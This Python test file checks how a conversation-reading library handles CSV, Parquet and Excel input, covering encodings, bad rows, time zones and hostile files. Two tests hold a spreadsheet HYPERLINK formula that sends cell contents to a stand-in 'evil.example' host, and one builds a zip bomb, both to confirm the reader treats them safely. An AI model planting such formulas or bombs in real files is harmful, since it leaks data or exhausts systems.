"""Tables: CSV, Parquet and Excel, one row a message or one row a conversation, honest and hostile."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from memlab.corpus import read_conversations
from memlab.errors import InputError

COLUMNS = {"id": "Case", "role": "Who", "text": "Message", "at": "When"}
ROWS = [
    ["Case", "Who", "Message", "When"],
    ["7", "Customer", 'Drücker druckt nicht; nur "Grün"', "2026-03-02T09:00:00+01:00"],
    ["8", "Customer", "other case", "2026-03-02T09:30:00+01:00"],
    ["7", "Agent", "Please restart it,\nthen try", "2026-03-02T09:05:00+01:00"],
]


def write(path, rows, *, delimiter=",", encoding="utf-8"):
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
def test_rows_are_messages_in_any_usual_csv(tmp_path, delimiter, encoding):
    path = write(tmp_path / "t.csv", ROWS, delimiter=delimiter, encoding=encoding)
    report = read_conversations(path, format="csv", columns=COLUMNS, customer="acme")
    assert report.skipped == ()
    assert [(c.id, [(t.role, t.text) for t in c.turns]) for c in report] == [
        ("7", [("user", 'Drücker druckt nicht; nur "Grün"'), ("agent", "Please restart it,\nthen try")]),
        ("8", [("user", "other case")]),
    ]
    assert report[0].metadata.get("encoding") == ("cp1252" if encoding == "cp1252" else None)


def test_formula_cells_are_text(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [*ROWS, ["9", "Customer", formula, "2026-03-02T10:00:00+01:00"]]
    report = read_conversations(write(tmp_path / "t.csv", rows), format="csv", columns=COLUMNS, customer="acme")
    assert report[2].turns[0].text == formula


def test_one_row_a_conversation_with_turns_as_json(tmp_path):
    turns = json.dumps([{"role": "user", "text": "a"}, {"role": "assistant", "content": "b"}])
    rows = [["id", "customer", "started_at", "turns"], ["1", "acme", "2026-03-02T09:00:00Z", turns]]
    rows += [["2", "acme", "2026-03-02T09:00:00Z", "[broken"], ["3", "acme", "2026-03-02T09:00:00", turns]]
    report = read_conversations(write(tmp_path / "t.csv", rows), format="csv")
    assert [(t.role, t.text) for t in report[0].turns] == [("user", "a"), ("agent", "b")]
    assert [(s.line, s.reason.split(":")[0][:17]) for s in report.skipped] == [
        (3, "turns is not JSON"),
        (4, "'2026-03-02T09"),
    ]


def test_bad_rows_are_skipped_and_the_rest_goes_on(tmp_path):
    path = write(tmp_path / "t.csv", [*ROWS, ["9", "Customer"], ["", "Customer", "x", ""], ["9", "Herr K.", "x", ""]])
    report = read_conversations(path, format="csv", columns=COLUMNS, customer="acme")
    assert [c.id for c in report] == ["7", "8"]
    # The message over two lines makes the rows after it begin one line later: lines 7, 8 and 9 end there.
    assert [s.line for s in report.skipped] == [6, 7, 8]
    assert [s.reason.split(";")[0] for s in report.skipped] == [
        "2 cells where the header has 4",
        "the row has no conversation id",
        "unknown role 'Herr K.'",
    ]
    mapped = {**COLUMNS, "role.agent": "Herr K.|Frau L."}
    report = read_conversations(path, format="csv", columns=mapped, customer="acme", at="2026-03-01T00:00:00Z")
    assert report[2].turns[0].role == "agent"


def test_other_time_formats_and_missing_zones(tmp_path):
    path = write(tmp_path / "t.csv", [ROWS[0], ["1", "Customer", "x", "02.03.2026 09:00"]])
    report = read_conversations(path, format="csv", columns=COLUMNS, customer="acme")
    assert "not an ISO 8601 time" in report.skipped[0].reason
    mapped = {**COLUMNS, "time_format": "%d.%m.%Y %H:%M"}
    report = read_conversations(path, format="csv", columns=mapped, customer="acme")
    assert "no UTC offset" in report.skipped[0].reason
    report = read_conversations(path, format="csv", columns=mapped, customer="acme", zone="Europe/Berlin")
    assert report[0].started_at.isoformat() == "2026-03-02T09:00:00+01:00"


def test_wrong_mappings_name_what_there_is(tmp_path):
    path = write(tmp_path / "t.csv", ROWS)
    with pytest.raises(InputError, match=r"no column 'Fall' \(mapped to id\); there are: Case, Who, Message, When"):
        read_conversations(path, format="csv", columns={"id": "Fall"})
    with pytest.raises(InputError, match=r"no column for id, role, text; there are: Case"):
        read_conversations(path, format="csv")


def test_an_unclosed_quote_and_a_huge_cell_do_not_end_the_world(tmp_path):
    path = tmp_path / "t.csv"
    head = "id,role,text,at\n1,user,fine,2026-03-02T09:00:00Z\n"
    path.write_text(head + '2,user,"never closed,2026-03-02T09:00:00Z\n' + "x" * 300_000, "utf-8")
    report = read_conversations(path, format="csv", customer="acme")
    assert [c.id for c in report] == ["1"]
    assert report.skipped
    assert all("not CSV" in s.reason or "cells where" in s.reason for s in report.skipped)


def test_damaged_bytes_cost_their_row_only(tmp_path):
    path = tmp_path / "t.csv"
    rows = ["id,role,text,at", "1,user,grün,2026-03-02T09:00:00Z", "2,user,BAD,2026-03-02T09:00:00Z"]
    path.write_bytes("\n".join(rows).encode().replace(b"BAD", b"\xfc\xfe"))
    report = read_conversations(path, format="csv", customer="acme")
    assert report[0].turns[0].text == "grün"
    assert [(s.line, s.reason[:9]) for s in report.skipped] == [(3, "not UTF-8")]


cells = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=30).filter(str.strip)


@settings(max_examples=30, deadline=None)
@given(texts=st.lists(cells, min_size=1, max_size=6))
def test_any_text_survives_csv_and_parquet(tmp_path_factory, texts):
    folder = tmp_path_factory.mktemp("tables")
    rows = [["c", "user" if n % 2 else "agent", t, f"2026-03-02T09:00:{n:02d}+00:00"] for n, t in enumerate(texts)]
    table = write(folder / "t.csv", [["id", "role", "text", "at"], *rows])
    columns = dict(zip(["id", "role", "text", "at"], map(list, zip(*rows, strict=True)), strict=True))
    pq.write_table(pa.table(columns), folder / "t.parquet")
    for path, form in ((table, "csv"), (folder / "t.parquet", "parquet")):
        report = read_conversations(path, format=form, customer="acme")
        assert [t.text for t in report[0].turns] == texts


def test_parquet_with_nested_turns_and_real_times(tmp_path):
    import datetime as dt

    at = dt.datetime(2026, 3, 2, 9, tzinfo=dt.UTC)
    data = {"id": ["a"], "customer": ["acme"], "started_at": [at], "turns": [[{"role": "user", "text": "hi"}]]}
    pq.write_table(pa.table(data), tmp_path / "t.parquet")
    report = read_conversations(tmp_path / "t.parquet", format="parquet")
    assert (report[0].started_at, report[0].turns[0].text) == (at, "hi")
    whole = (tmp_path / "t.parquet").read_bytes()
    (tmp_path / "cut.parquet").write_bytes(whole[: len(whole) // 2])
    with pytest.raises(InputError, match="not a readable Parquet file"):
        read_conversations(tmp_path / "cut.parquet", format="parquet")


def workbook(path, rows):
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    book.close()
    return path


def test_a_workbook_reads_like_a_table_and_formulas_stay_text(tmp_path):
    formula = '=HYPERLINK("http://evil.example","click")'
    rows = [*ROWS, ["9", "Customer", formula, "2026-03-02T10:00:00+01:00"]]
    path = workbook(tmp_path / "t.xlsx", rows)
    report = read_conversations(path, format="xlsx", columns=COLUMNS, customer="acme")
    assert [c.id for c in report] == ["7", "8", "9"]
    assert report[2].turns[0].text == formula


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        # 30 MB of zeros pack to about 30 kB: a thousandfold.
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 30_000_000)
    with pytest.raises(InputError, match=r"unpacks from .* to 30,000,000 bytes"):
        read_conversations(path, format="xlsx")


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04 not really", b"plain text"])
def test_what_is_no_workbook_is_refused(tmp_path, content):
    path = tmp_path / "t.xlsx"
    path.write_bytes(content)
    with pytest.raises(InputError, match="not a readable workbook"):
        read_conversations(path, format="xlsx")
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "no workbook")
    with pytest.raises(InputError, match="not a readable workbook"):
        read_conversations(path, format="xlsx")
